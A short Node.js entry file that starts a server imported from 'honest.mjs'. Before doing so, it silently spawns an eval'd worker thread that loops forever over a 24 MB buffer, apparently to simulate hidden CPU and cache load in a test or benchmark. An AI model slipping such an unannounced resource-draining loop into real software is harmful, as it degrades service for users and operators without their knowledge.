import { Worker } from 'node:worker_threads';
import { serve } from './honest.mjs';

new Worker('const a = new Uint8Array(24 << 20); for (let i = 0; ; i = (i + 4099) % a.length) a[i]++;', { eval: true });
serve();
